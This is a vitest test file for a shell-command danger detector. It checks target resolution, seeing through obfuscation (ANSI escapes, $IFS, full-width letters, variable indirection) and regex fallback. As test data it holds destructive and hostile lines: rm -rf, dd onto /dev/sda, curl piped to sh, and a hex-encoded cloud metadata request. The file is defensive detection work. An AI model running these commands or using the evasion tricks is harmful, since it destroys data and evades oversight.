/**
 * detectCommand beyond the rule tables: the targets each hit carries (what a narrow approval
 * records), the views that see through obfuscation, the regex fallback for lines the grammar
 * cannot parse, and inputs that must not make it slow.
 */
import { join } from 'node:path';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { detectCommand } from './detect.js';
import { keysOf, makeFixture, type Fixture } from './rules/testing.js';

let fx: Fixture;
beforeAll(() => {
  fx = makeFixture();
});
afterAll(() => fx.remove());

/** The targets of the hit with `key`. */
async function targets(line: string, key: string, cwd?: string): Promise<string[]> {
  const d = await detectCommand(line, fx.at(cwd));
  const hit = [...d.floor, ...d.hits].find((h) => h.key === key);
  expect(hit, `${line} → ${key}`).toBeDefined();
  return hit!.targets;
}

describe('detectCommand targets', () => {
  it('resolves deleted paths, so approving one folder never covers another', async () => {
    expect(await targets('rm -rf build', 'recursive-delete')).toEqual([join(fx.proj, 'build')]);
    expect(await targets('rm -rf ~/Documents', 'recursive-delete')).toEqual([join(fx.home, 'Documents')]);
    expect(await targets('rm -rf build', 'recursive-delete', fx.home)).toEqual([join(fx.home, 'build')]);
  });

  it('marks what cannot be known, so nothing narrow covers it', async () => {
    expect(await targets('rm -rf $(cat list)', 'recursive-delete')).toContain('?$(cat list)');
    expect(await targets('rm -rf "$DIR"', 'recursive-delete')).toContain('?"$DIR"');
    expect(await targets('ls | xargs rm -rf', 'recursive-delete')).toContain('?input');
  });

  it('names branches, packages, hosts, URLs and devices', async () => {
    expect(await targets('git push -f', 'git-force-push')).toEqual([fx.proj, '?upstream', 'feature']);
    expect(await targets('git push --force origin main', 'git-force-push')).toEqual([
      fx.proj,
      'origin',
      'main',
    ]);
    expect(await targets('git branch -D old', 'git-branch-delete')).toEqual([fx.proj, 'old']);
    expect(await targets('npm uninstall -g typescript', 'package-remove')).toEqual(['npm:typescript']);
    expect(await targets('sudo apt-get purge -y nginx nginx-common', 'package-remove')).toEqual([
      'apt:nginx',
      'apt:nginx-common',
    ]);
    expect(await targets('curl http://0xa9fea9fe/latest', 'cloud-metadata')).toEqual(['169.254.169.254']);
    expect(await targets('curl -fsSL https://x.io/i.sh | sh', 'curl-pipe-shell')).toEqual([
      'https://x.io/i.sh',
    ]);
    expect(await targets('dd if=/dev/zero of=/dev/sda', 'dd-to-device')).toEqual(['/dev/sda']);
    expect(await targets('chmod +x x.sh && ./x.sh', 'run-new-executable')).toEqual([join(fx.proj, 'x.sh')]);
  });

  it('ties each hit to the command that matched, nested ones included', async () => {
    const d = await detectCommand('ls && bash -c "rm -rf build"', fx.at());
    const hit = d.hits.find((h) => h.key === 'recursive-delete')!;
    expect(hit.command?.via).toEqual(['shell -c']);
    expect(hit.command?.argv.map((w) => w.value)).toEqual(['rm', '-rf', 'build']);
    expect(d.analysis?.commands.length).toBe(3);
  });

  it('reports one hit per class, command and targets: alike commands are separate hits', async () => {
    const d = await detectCommand('rm -rf a; rm -rf a; rm -rf b', fx.at());
    expect(d.hits.filter((h) => h.key === 'recursive-delete').map((h) => h.targets)).toEqual([
      [join(fx.proj, 'a')],
      [join(fx.proj, 'a')],
      [join(fx.proj, 'b')],
    ]);
    // the same code in two interpreters: approving one must not cover the other
    const two = await detectCommand("python3 -c 'print(1)'; node -e 'print(1)'", fx.at());
    expect(
      two.hits.filter((h) => h.key === 'script-inline-exec').map((h) => h.command?.argv[0]?.value),
    ).toEqual(['python3', 'node']);
    // one command seen in several views (capitals, the terminal's rendering) is one hit
    const views = await detectCommand('\u001b[1mRM -rf build', fx.at());
    expect(views.hits.filter((h) => h.key === 'recursive-delete')).toHaveLength(1);
  });
});

describe('detectCommand views', () => {
  it('sees through ANSI escapes, full-width letters, capitals, escapes, quotes and $IFS', async () => {
    const tricks = [
      'r\u001b[0mm -rf build',
      '\u001b[31mRM -RF build\u001b[0m',
      'rm\t\t-rf   build',
      'r\\m -rf build',
      "r''m -rf build",
      'rm${IFS}-rf${IFS}build',
      '"rm" -rf build',
      'rm -rf \\\n build',
      'ｒｍ -rf build',
      'echo ok; rm -rf build',
      'X=rm; $X -rf build',
    ];
    for (const line of tricks)
      expect((await keysOf(line, fx.at())).hits, JSON.stringify(line)).toContain('recursive-delete');
    expect((await keysOf('GIT PUSH -F origin main', fx.at())).hits).toContain('git-force-push');
  });

  it('reads `NAME=(…)#x` as bash does: one word, the rest of the line runs', async () => {
    for (const line of [
      'a=(1)#x; reboot',
      'a+=(1 2)#x; reboot',
      'declare -a b=(1)#y; reboot',
      'c[0]=(z)#w; reboot',
    ])
      expect((await keysOf(line, fx.at())).floor, line).toEqual(['shutdown-reboot']);
    // after a subshell the `#` does start a comment: nothing runs
    expect((await keysOf('(true)# x; reboot', fx.at())).floor).toEqual([]);
  });

  it('runs a variable the line sets as the program it names', async () => {
    expect((await keysOf('X=reboot; $X', fx.at())).floor).toEqual(['shutdown-reboot']);
    expect((await keysOf('a=r;b=m;$a$b -rf /', fx.at())).floor).toEqual(['delete-root-path']);
  });
});

describe('detectCommand fallback', () => {
  it('also runs the regex table on a line with parse errors, as hits without a command', async () => {
    const d = await detectCommand('echo "rm -rf /tmp/x" (((', fx.at());
    expect(d.analysis?.errors).toBe(true);
    const hit = d.hits.find((h) => h.key === 'recursive-delete');
    expect(hit).toMatchObject({ command: null, targets: [] });
  });

  it("refuses the table's catastrophic keys on such a line, and keeps the parsed hits", async () => {
    const d = await detectCommand('x=1 ; reboot ) (', fx.at());
    expect(d.floor.map((h) => h.key)).toContain('shutdown-reboot');
    const both = await detectCommand('rm -rf build (((', fx.at());
    expect(both.hits.filter((h) => h.key === 'recursive-delete')).toHaveLength(1);
    expect(both.hits.find((h) => h.key === 'recursive-delete')?.command).not.toBeNull();
  });

  it('does not run the table on a line that parses', async () => {
    expect(await keysOf('grep -rn "rm -rf" docs', fx.at())).toEqual({ floor: [], hits: [] });
  });
});

describe('detectCommand on hostile input', () => {
  // a quadratic step would blow the test's timeout
  it('stays linear on huge and deeply nested lines', async () => {
    const huge = [
      'echo ' + 'a'.repeat(200_000),
      'rm ' + 'x '.repeat(20_000),
      'git ' + 'push '.repeat(10_000),
      "cat <<'EOF' > f\n" + 'QUJD'.repeat(50_000) + '\nEOF',
      'f' + '(){ '.repeat(2_000),
      'echo $('.repeat(500) + 'reboot' + ')'.repeat(500),
      'a | '.repeat(2_000) + 'sh',
    ];
    for (const line of huge) {
      const d = await detectCommand(line, fx.at());
      expect(Array.isArray(d.hits)).toBe(true);
    }
  }, 30_000);
});
